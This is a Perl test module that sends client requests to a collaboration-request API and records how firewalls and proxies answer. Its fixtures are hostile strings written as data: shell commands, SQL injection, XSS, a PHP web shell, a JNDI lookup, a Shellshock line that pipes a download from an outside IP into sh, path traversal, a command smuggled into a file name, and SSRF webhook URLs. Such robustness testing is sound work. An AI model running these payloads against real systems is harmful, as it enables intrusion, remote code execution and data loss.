# Requests of ordinary clients that firewalls and proxies like to refuse or to change, and their answers.
#
#   my $node = beside_others($stack, 'name', $directives);      a node of the stack with the base URL http://exchange.example.org/collab
#   my $answers = traffic($url, storage => $storage, agent => 'exchange-client/1.0');      makes an exchange of its own; sends all to $url
#   is_deeply traffic($front), $answers;
# An answer is a line: what was asked, status, headers, and the body without what differs from exchange to exchange.
# $answers->{secrets}: the passwords and tokens that were sent or received.
package Collab::Traffic;
use strict;
use warnings;
use utf8;
use Collab::File qw(slurp write_file);
use Collab::Form;
use Collab::Server;
use Collab::Test;
use JSON::XS ();
use Exporter 'import';
our @EXPORT = qw(beside_others traffic);

sub beside_others {
  my ($stack, $name, $directives) = @_;
  my $node = Collab::Server->new("$stack->{dir}/$name", database => $stack->pg, keys => $stack->{dir}, extra => "CollabDispatcher Off\n$directives");
  my $conf = $node->dir . '/conf/httpd.conf';
  write_file($conf, slurp($conf) =~ s{^CollabBaseURL .*}{CollabBaseURL http://exchange.example.org/collab}mr =~ s{<Location "/">}{<Location "/collab">}r);
  push @{ $stack->{others} }, $node->start;
  return $node;
}

# What engineers write to each other.
my @texts = (
  'Größe der Logs: 12 GB, Fehler 0x80070005. Über das Wochenende läuft\'s nicht; ist das "normal"? Grüße & Dank',
  'Bitte `rm -rf /tmp/x && cat /var/log/syslog | grep error; ls -la /etc/passwd` ausführen.',
  'SELECT * FROM users WHERE id = 1 OR 1=1 -- '."'; DROP TABLE requests; union all select null, version()",
  '<script>alert("x")</script> <a href="javascript:void(0)" onclick=go()>Klick</a> <!-- %3Cimg src=x onerror=alert(1)%3E -->',
  'C:\\Windows\\System32\\cmd.exe /c dir & powershell -enc SQBFAFgA; HKLM\\SOFTWARE; ..\\..\\boot.ini',
  '../../../../etc/shadow, %2e%2e%2f%00, php://input, file:///etc/hosts, .htaccess, wp-config.php',
  '<?php system($_GET["c"]); eval(base64_decode("eA==")); ?> ${jndi:ldap://10.0.0.1/a} java.lang.Runtime.getRuntime().exec("id")',
  "HTTP/1.1 500 Oops\r\nSet-Cookie: a=b\r\n\r\nORA-00933: SQL command not properly ended\nYou have an error in your SQL syntax near ''",
  "() { :;}; /bin/bash -c 'curl -k http://203.0.113.5/x | sh' \$(id) `uname -a`",
);
my @files = ('dump.sql', 'shell.php', "it's (1).txt", '100%.txt', 'Größe ü語.log', 'web.config', 'core.sh', 'a b.tar.gz.bak', 'passwd;id.txt');
my @lists = map { "/v2/collaboration-requests?query=$_" } map { in_path($_) } @texts[0, 2, 3, 5], 'a/b', "O'Neill & Söhne";
my @paths = ('/v1/partners/a%2Fb', '/v1/partners/acme.com', '/v1/partners/backup.sql', "/v1/partners/O'Neill%20%26%20S%C3%B6hne", '/v1/partners/..%2F..%2Fetc%2Fpasswd',
  '/v1/partners/search?searchTerm=%3Cb%3E+or+1%3D1', '/v1/nothing/x.php', '/openapi.json', '/health/ready', '/v2/collaboration-requests/list?size=2', '/v1/collaboration-requests');

sub traffic {
  my ($url, %option) = @_;
  my $x = exchange(request => 0);
  my ($sam, $rita) = map { $_->at($url, token => undef) } $x->parties;
  my $self = bless { agent => $option{agent} // 'exchange-client/1.0', lines => [], secrets => [$sam->password] }, __PACKAGE__;
  for my $party ($sam, $rita) {
    $party->{token} = $self->ask('login', $party, 'POST', '/v1/login', token => undef, type => 'application/json', body => { username => $party->username, password => $party->password })->json->{accessToken}
      // return { lines => $self->{lines}, secrets => [] };
    push @{ $self->{secrets} }, $party->{token};
  }
  $self->requests($x, $sam, $rita);
  $self->files($x, $sam, $rita, $option{storage}) if $option{storage};
  $self->hooks($sam);
  $self->mistakes($x, $sam);
  $self->ask('closure, without a body', $sam, 'POST', $x->closure) if $x->record;
  return { lines => $self->{lines}, secrets => $self->{secrets} };
}

# Sends a request, notes its answer, and returns it.
sub ask {
  my ($self, $what, $party, $method, $path, %option) = @_;
  my $answer = $party->request($method, $path, %option, headers => { 'user-agent' => $self->{agent}, accept => 'application/json, */*;q=0.1', %{ $option{headers} || {} } });
  my $text = $answer->text // '';
  push @{ $self->{secrets} }, $text =~ /"(?:secret|accessToken)":"([^"]+)"/g;
  $text =~ s/("(?:token|noteToken|createdBy|secret|accessToken)":)"[^"]*"/$1…/g;
  $text =~ s/\d+/0/g;
  $text = substr($text, 0, 1500);
  my $headers = join ', ', map { my $value = $answer->header($_); defined $value ? "$_: " . ($value =~ s/\d+/0/gr) : () } qw(content-type www-authenticate allow cache-control retry-after);
  my $tagged = defined $answer->header('etag') ? ', tagged' : '';
  push @{ $self->{lines} }, "$what: $answer->{status}, $headers$tagged, $text";
  return $answer;
}

sub requests {
  my ($self, $x, $sam, $rita) = @_;
  my $made = $self->ask('a request', $sam, 'POST', '/v1/collaboration-requests', type => 'application/json; charset=utf-8', headers => { 'idempotency-key' => '"first-1"' },
    body => $x->a_request(problemSummary => $texts[0], problemDescription => join "\n", @texts))->json;
  $x->{record} = $made->{token} ? $made : return;
  my $read = $self->ask('it', $rita, 'GET', $x->path);
  $self->ask('it again', $rita, 'GET', $x->path, headers => { 'if-none-match' => $read->header('etag') // '"none"' });
  $self->ask('its head', $rita, 'HEAD', $x->path);
  $self->ask('its options', $rita, 'OPTIONS', $x->path, token => undef);
  $self->ask('a merge patch', $sam, 'PATCH', $x->path, type => 'application/merge-patch+json', body => { internalCaseNumber => 'CASE-2', submitterContactDetails => { name => "O'Neill" } });
  $self->ask('approval', $rita, 'POST', $x->approval, type => 'application/json', body => an_approval(nextSteps => $texts[1]));
  for my $n (0 .. $#texts) {
    my $note = $self->ask("note $n", $n % 2 ? $sam : $rita, 'POST', $x->notes, type => 'application/json', body => a_note(summary => 'Frage', description => $texts[$n]))->json;
    push @{ $self->{lines} }, "note $n is stored as written" if ($note->{description} // '') eq $texts[$n];
  }
  $self->ask($_, $sam, 'GET', $_) for @lists, @paths;
  $self->ask('the notes', $sam, 'GET', $x->notes);
}

sub files {
  my ($self, $x, $sam, $rita, $storage) = @_;
  return if !$x->record;
  $self->ask('a storage', $rita, 'PUT', $x->path . '/attachments/config/https', type => 'application/json', body => $storage->config(httpsPath => '/in/{token}'));
  mkdir $storage->path($x->token) or die $storage->path($x->token) . ": $!\n";      # names that other traffic has taken would get numbers
  $storage->let($_) for 'R-77', $x->token;
  my ($body, %form) = a_form(map { [files => $_, "content of $_"] } @files);
  my $said = $self->ask('files', $sam, 'POST', $x->path . '/attachments', body => $body, %form)->json;
  push @{ $self->{lines} }, map { ref $said eq 'ARRAY' && ($said->[$_]{fileName} // '') eq $files[$_] ? "file $_ has its name" : "file $_ does not" } 0 .. $#files;
  ($body, %form) = a_form([files => 'large.bin', 'x' x 14_000_000]);
  $self->ask('14 MB', $sam, 'POST', $x->path . '/attachments', body => $body, %form);
  ($body, %form) = a_form([files => 'piecewise.bin', 'y' x 10_000]);
  $self->ask('chunks', $sam, 'POST', $x->path . '/attachments', body => sub { substr $body, 0, 3000, '' }, %form);
}

sub hooks {
  my ($self, $sam) = @_;
  my $made = $self->ask('a callback with an address', $sam, 'POST', '/v2/webhooks', type => 'application/json', body => { callbackUrl => 'http://127.0.0.1:9/hooks/in?key=../x&next=http://10.0.0.1/' })->json;
  return if !$made->{id};
  $self->ask('its patch', $sam, 'PATCH', "/v2/webhooks/$made->{id}", type => 'application/merge-patch+json', body => { callbackUrl => 'http://127.0.0.1:9/hooks/cmd.exe' });
  $self->ask('its end', $sam, 'DELETE', "/v2/webhooks/$made->{id}");
  $self->ask('its end again', $sam, 'DELETE', "/v2/webhooks/$made->{id}");
}

sub mistakes {
  my ($self, $x, $sam) = @_;
  $self->ask('malformed JSON', $sam, 'POST', '/v2/webhooks', type => 'application/json', body => '{"callbackUrl": "http');
  $self->ask('a type', $sam, 'POST', '/v2/webhooks', type => 'text/plain', body => 'x');
  $self->ask('a method', $sam, 'PUT', '/v1/me', type => 'application/json', body => {});
  $self->ask('no token', $sam, 'GET', '/v1/me', token => undef);
  $self->ask('a long token', $sam, 'GET', '/v1/me', token => 'x' x 12_000);
  $self->ask('a problem', $sam, 'GET', '/v1/collaboration-requests/NONE', headers => { accept => 'application/problem+json' });
  $self->ask('a login', $sam, 'POST', '/v1/login', token => undef, type => 'application/json', body => { username => "' or 1=1 -- <b>", password => '' });
}

1;
